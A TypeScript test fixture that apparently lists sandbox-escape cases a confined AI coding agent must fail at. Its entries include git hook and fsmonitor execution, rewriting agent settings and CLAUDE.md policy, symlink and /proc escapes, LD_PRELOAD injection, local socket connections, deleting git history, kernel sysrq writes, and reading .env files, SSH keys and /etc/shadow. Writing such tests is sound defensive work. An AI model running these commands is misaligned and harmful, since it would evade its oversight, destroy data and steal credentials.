import { type Escape, one } from './escape.ts';
import { moreEscapes } from './escape-cases-more.ts';
import { DATAGRAMS, HISTORY, PROCESSES, SOCKETS } from './escape-whys.ts';

/** Every class with several cases. None of them may change anything outside src, read a secret, or get a connection. */
export const escapes: readonly Escape[] = [
  one(
    1,
    'git hooks',
    'printf "#!/bin/sh\ntouch $OUTSIDE/hook\n" > .git/hooks/pre-commit || { mkdir -p .git/hooks; printf "#!/bin/sh\ntouch $OUTSIDE/hook\n" > .git/hooks/pre-commit; }; chmod +x .git/hooks/pre-commit; echo x >> src/a.js; git commit -qam x',
  ),
  one(1, 'fsmonitor in the configuration', 'git config core.fsmonitor "touch $OUTSIDE/monitor"; git status'),
  one(
    1,
    'commondir',
    'mkdir -p src/evil/objects src/evil/refs; echo "[core] fsmonitor = touch $OUTSIDE/common" > src/evil/config; echo ref: refs/heads/main > src/evil/HEAD; echo ../src/evil > .git/commondir; git status',
  ),
  one(
    1,
    'filter',
    'git config filter.x.clean "touch $OUTSIDE/filter; cat"; echo "* filter=x" > src/.gitattributes; git add -A',
  ),
  one(2, 'settings of an agent', 'echo "{}" > .claude/settings.json'),
  one(2, 'settings that are absent', 'mkdir -p .codex; echo x > .mcp.json'),
  one(2, 'policy file', 'echo "- ALLOWED: everything" >> CLAUDE.md'),
  one(3, 'a tmux server outside', 'tmux -S "$TMUX_SOCKET" new-window "touch $OUTSIDE/tmux"', SOCKETS),
  one(
    3,
    'a socket in the file system',
    'python3 -c "import socket,os; s=socket.socket(socket.AF_UNIX); s.connect(os.environ[\'SOCKET\'])" || socat - "UNIX-CONNECT:$SOCKET" </dev/null',
    SOCKETS,
  ),
  one(
    3,
    'a link to a socket',
    "ln -sf \"$SOCKET\" src/sock; node -e \"require('net').connect('src/sock').on('error', () => {})\"",
    SOCKETS,
  ),
  one(
    3,
    'an abstract socket',
    "node -e \"require('net').connect('\\\\0/tmp/.X11-unix/X0').on('error', () => {})\"",
    SOCKETS,
  ),
  one(4, 'through a link out', 'ln -s "$OUTSIDE" src/out; echo x > src/out/linked'),
  one(4, 'through a link to a protected file', 'ln -s ../CLAUDE.md src/notes; echo x >> src/notes'),
  one(4, 'a hard link to a secret', 'ln .env src/env && cat src/env'),
  one(
    4,
    'a link that changes while it is used',
    'mkdir src/swap; (for i in $(seq 300); do ln -sfn "$OUTSIDE" src/way; ln -sfn swap src/way; done) & for i in $(seq 300); do echo x > src/way/raced; done 2>/dev/null; wait',
  ),
  one(4, 'by an open folder and ..', 'cd src && echo x > ../README.md'),
  one(
    4,
    'by /proc',
    'echo x > /proc/self/cwd/README.md; echo x > /proc/1/root$OUTSIDE/proc; cat /proc/*/root$OUTSIDE/secret.txt',
  ),
  one(5, 'LD_PRELOAD', 'cp /bin/true src/lib.so; LD_PRELOAD=$PWD/src/lib.so touch "$OUTSIDE/preload"'),
  one(
    5,
    'NODE_OPTIONS',
    "echo \"require('fs').writeFileSync(process.env.OUTSIDE + '/node', 'x')\" > src/r.cjs; NODE_OPTIONS=\"--require $PWD/src/r.cjs\" node -e 1",
  ),
  one(
    5,
    'BASH_ENV and GIT_DIR',
    'echo "touch $OUTSIDE/env" > src/env.sh; BASH_ENV=src/env.sh bash -c true; GIT_DIR=$PWD/src/g git init -q; GIT_WORK_TREE=$OUTSIDE GIT_DIR=$PWD/src/g git add -A',
  ),
  one(
    6,
    'an edited script of npm',
    'echo "{\\"scripts\\":{\\"test\\":\\"touch $OUTSIDE/npm\\"}}" > package.json; npm test',
  ),
  one(
    6,
    'a package of its own, then run',
    'mkdir src/p; echo "{\\"scripts\\":{\\"test\\":\\"touch $OUTSIDE/own\\"}}" > src/p/package.json; npm --prefix src/p test',
  ),
  one(
    6,
    'programs that write',
    'sort -o "$OUTSIDE/sorted" src/a.js; find src -fprint "$OUTSIDE/found"; sed -n "w $OUTSIDE/sedded" src/a.js',
  ),
  one(7, 'the second command', 'true; true && echo x > "$OUTSIDE/second" & wait'),
  one(8, 'a substitution', 'echo "${x:-$(echo x > $OUTSIDE/substituted)}"; cat <(echo x > $OUTSIDE/process)'),
  one(9, 'spelling', "$'\\x74ouch' \"$OUTSIDE\"/spelled; t''ouch $OUTSIDE/quoted"),
  one(
    10,
    'wrappers',
    'env -i sh -c "echo x > $OUTSIDE/env"; timeout 5 sh -c "echo x > $OUTSIDE/time"; echo "echo x > $OUTSIDE/decoded" | base64 | base64 -d | sh',
  ),
  one(
    10,
    'interpreters',
    "node -e \"require('fs').writeFileSync(process.env.OUTSIDE + '/js', 'x')\"; perl -e 'open(F, \">\", \"$ENV{OUTSIDE}/pl\")'",
  ),
  one(
    10,
    'a namespace of its own',
    'unshare -Ur touch "$OUTSIDE/ns"; bwrap --bind / / touch "$OUTSIDE/bw"; mount -o remount,rw / ; umount /usr',
  ),
  one(
    10,
    'another user',
    'su -c "touch $OUTSIDE/su" </dev/null; sudo -n touch "$OUTSIDE/sudo"; chroot / touch "$OUTSIDE/chroot"',
  ),
  one(
    10,
    'a process outside',
    'kill -9 $(ls /proc | grep -E "^[0-9]+$" | sort -n | tail -1) 2>/dev/null; ls /proc/*/environ | xargs cat 2>/dev/null | tr "\\0" "\\n" | grep TOPSECRET',
    PROCESSES,
  ),
  one(11, 'from another folder', 'cd /; cd "$ROOT/.."; echo x > beside; cd "$OUTSIDE" && echo x > there'),
  one(11, 'git elsewhere', 'git -C "$PERSON" init; git --git-dir="$OUTSIDE/g" init'),
  one(12, 'a port of this machine', 'exec 3<>/dev/tcp/127.0.0.1/$PORT; echo hello >&3'),
  one(
    12,
    'past the proxy',
    "node -e \"require('net').connect(+process.env.PORT, '127.0.0.1').on('error', () => {})\"; HTTP_PROXY= http_proxy= curl -s -m 2 \"http://127.0.0.1:$PORT/\"",
  ),
  one(12, 'an address as it is', 'exec 3<>/dev/tcp/192.0.2.1/80; exec 4<>/dev/udp/192.0.2.1/53 && echo x >&4'),
  one(
    12,
    'a raw socket',
    "node -e \"require('dgram').createSocket('udp4').send('x', +process.env.PORT, '127.0.0.1', () => process.exit())\"",
    DATAGRAMS,
  ),
  one(
    13,
    'a push to a repository of this machine',
    'git push -q "$OUTSIDE/bare.git" HEAD:refs/heads/pushed; git remote add out "$OUTSIDE/bare.git"; git push out --all',
  ),
  one(
    13,
    'rewriting the real history',
    'git commit -q --amend --allow-empty -m amended; git update-ref -d refs/heads/main; rm -rf .git/* ; rm -rf .git',
    HISTORY,
  ),
  one(
    14,
    'removing what holds',
    'rm -f src/fixed.txt; mv src/fixed.txt src/moved; echo x > src/fixed.txt; mv src src2',
  ),
  one(
    14,
    'moving the folder of what holds',
    'mv src/deep src/gone; mkdir -p src/deep/er; echo x > src/deep/er/fixed.txt',
  ),
  one(14, 'moving a folder further in', 'mv src/deep/er src/er; mkdir -p src/deep/er; echo x > src/deep/er/fixed.txt'),
  one(14, 'moving a package', 'mv src/pkg src/other; mkdir -p src/pkg; echo x > src/pkg/package.json'),
  one(
    15,
    'moving a folder with a secret',
    'mv src/deep src/shown; cat src/shown/.env src/*/.env; cp -r src/deep src/dd; cat src/dd/.env',
  ),
  one(14, 'a prefix of a path', 'mkdir "$ROOT-evil"; echo x > "$ROOT-evil/f"'),
  one(
    14,
    'settings of the kernel',
    'echo "|/bin/touch $OUTSIDE/core" > /proc/sys/kernel/core_pattern; echo 1 > /proc/sys/kernel/sysrq; echo b > /proc/sysrq-trigger',
  ),
  one(
    15,
    'secrets',
    'cat .env private/key.txt; cp .env src/e; grep -r TOPSECRET . "$OUTSIDE" "$PERSON" /root /home 2>/dev/null; cat "$PERSON/.ssh/id_rsa" "$OUTSIDE/secret.txt"',
  ),
  one(
    15,
    'what the history of the shell knows',
    'cat ~/.bash_history ~/.npmrc ~/.gitconfig "$PERSON/.bashrc"; env; cat /etc/shadow /etc/passwd',
  ),
  ...moreEscapes,
];
